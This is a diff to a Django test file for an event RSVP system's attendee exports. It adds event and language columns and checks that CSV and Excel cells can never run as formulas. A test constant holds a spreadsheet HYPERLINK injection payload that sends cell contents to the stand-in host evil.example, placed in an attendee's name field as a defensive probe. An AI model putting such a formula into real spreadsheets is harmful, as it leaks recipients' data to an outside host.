@@ -1,5 +1,6 @@
 """Attendee lists for organizers (CSV and Excel) and the printable accommodation summary:
-exactly the right rows, cells that can never run as formulas, and an audit entry each time."""
+exactly the right rows, cells that can never run as formulas, and an audit entry each time.
+The admin's RSVP export is the same table (tests/admin checks it uses this header)."""
 
 import csv
 import datetime
@@ -24,17 +25,19 @@ pytestmark = pytest.mark.django_db
 CHICAGO = zoneinfo.ZoneInfo("America/Chicago")
 HEADER = [
     "code",
+    "event",
     "name",
     "email",
     "party_size",
     "status",
     "checked_in",
+    "language",
     "interpreter_count",
+    "interpreter_language",
     "asl_count",
     "captioning_count",
     "childcare_count",
     "mobility_count",
-    "interpreter_language",
     "note",
     "created_at",
 ]
@@ -44,7 +47,7 @@ PROBE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 @pytest.fixture
 def forum():
-    event = EventFactory(slug="forum", capacity=20, max_party_size=6)
+    event = EventFactory(title="Forum", slug="forum", capacity=20, max_party_size=6)
     RsvpFactory(
         event=event,
         code="AAA111",
@@ -96,33 +99,37 @@ def test_csv_lists_the_events_active_rsvps_with_safe_cells(client, forum):
         HEADER,
         [
             "AAA111",
+            "Forum",
             "Amina Yusuf",
             "amina@example.org",
             "3",
             "confirmed",
             "2",
+            "en",
             "2",
+            "Somali",
             "0",
             "0",
             "1",
             "0",
-            "Somali",
             "Stroller",
             "2026-01-10T09:30:00-06:00",
         ],
         [
             "BBB222",
+            "Forum",
             "'" + PROBE,
             "",
             "1",
             "waitlisted",
             "0",
+            "en",
             "0",
+            "",
             "1",
             "0",
             "0",
             "0",
-            "",
             "'+1 555\x07bell @me -minus",
             "2026-01-11T20:00:00-06:00",
         ],
@@ -148,33 +155,37 @@ def test_xlsx_holds_the_same_rows_and_never_a_formula(client, forum):
         HEADER,
         [
             "AAA111",
+            "Forum",
             "Amina Yusuf",
             "amina@example.org",
             3,
             "confirmed",
             2,
+            "en",
             2,
+            "Somali",
             0,
             0,
             1,
             0,
-            "Somali",
             "Stroller",
             "2026-01-10T09:30:00-06:00",
         ],
         [
             "BBB222",
+            "Forum",
             PROBE,
             None,  # an empty cell
             1,
             "waitlisted",
             0,
+            "en",
             0,
+            None,
             1,
             0,
             0,
             0,
-            None,
             "+1 555\ufffdbell @me -minus",
             "2026-01-11T20:00:00-06:00",
         ],
@@ -183,7 +194,7 @@ def test_xlsx_holds_the_same_rows_and_never_a_formula(client, forum):
     assert types == {"s", "n"}
     sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
     assert "<f>" not in sheet_xml
-    assert sheet["B3"].data_type == "s"
+    assert sheet["C3"].data_type == "s"
     assert audit_log() == [(AuditAction.EXPORT_RSVPS, 2)]
 
 
@@ -251,8 +262,9 @@ def test_exports_read_a_fixed_number_of_queries(client, forum, django_assert_num
         RsvpFactory(event=forum)
     organizer(client).get(reverse("staff:dashboard", args=["forum"]))  # session warmed up
 
-    # session, user, two permission reads, event, count, audit entry, the rows
-    with django_assert_num_queries(8):
+    # session, user, two permission reads, event, the export's forum, count, audit entry,
+    # the rows
+    with django_assert_num_queries(9):
         response = client.get(reverse("staff:attendees_csv", args=["forum"]))
         rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
 
